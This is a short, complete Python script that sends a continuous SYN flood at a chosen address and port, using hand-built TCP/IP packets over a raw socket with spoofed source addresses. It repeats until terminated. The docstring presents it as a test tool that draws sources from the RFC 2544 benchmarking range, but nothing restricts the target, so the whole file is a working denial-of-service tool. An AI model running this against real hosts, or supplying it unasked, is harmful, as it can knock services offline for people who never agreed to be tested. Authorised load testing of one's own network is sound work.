"""syn_flood.py INTERFACE MAC ADDRESS PORT COUNT RATE: COUNT SYNs to the address, each from another source, RATE a second;
at the end it begins anew, until TERM. Then it prints how many it has sent.

Sources are 198.18.0.0/15 (RFC 2544: for such tests, and nobody's), so no answer finds its way to anybody.
"""

import signal
import socket
import struct
import sys
import time

BURST = 64


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(number: int, ethernet: bytes, address: bytes, port: int) -> bytes:
    source = struct.pack("!I", 0xC6120000 + number % (1 << 17))
    source_port = 1024 + number * 7919 % 60000
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, number & 0xFFFF, 0, 64, socket.IPPROTO_TCP, 0, source, address)
    tcp = struct.pack("!HHIIBBHHH", source_port, port, number, 0, 5 << 4, 0x02, 65535, 0, 0)
    pseudo = source + address + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return ethernet + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


interface, mac, address, port, count, rate = sys.argv[1:]
is_over = False


def end(*_) -> None:
    global is_over
    is_over = True


signal.signal(signal.SIGTERM, end)
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as card:
    card.bind((interface, 0))
    ethernet = bytes.fromhex(mac.replace(":", "")) + card.getsockname()[4] + b"\x08\x00"
    frames = [syn(number, ethernet, socket.inet_aton(address), int(port)) for number in range(int(count))]
    began, sent = time.monotonic(), 0
    while not is_over:
        burst = frames[sent % len(frames):][:BURST]
        for frame in burst:
            card.send(frame)
        sent += len(burst)
        time.sleep(max(0.0, began + sent / int(rate) - time.monotonic()))
print(sent)
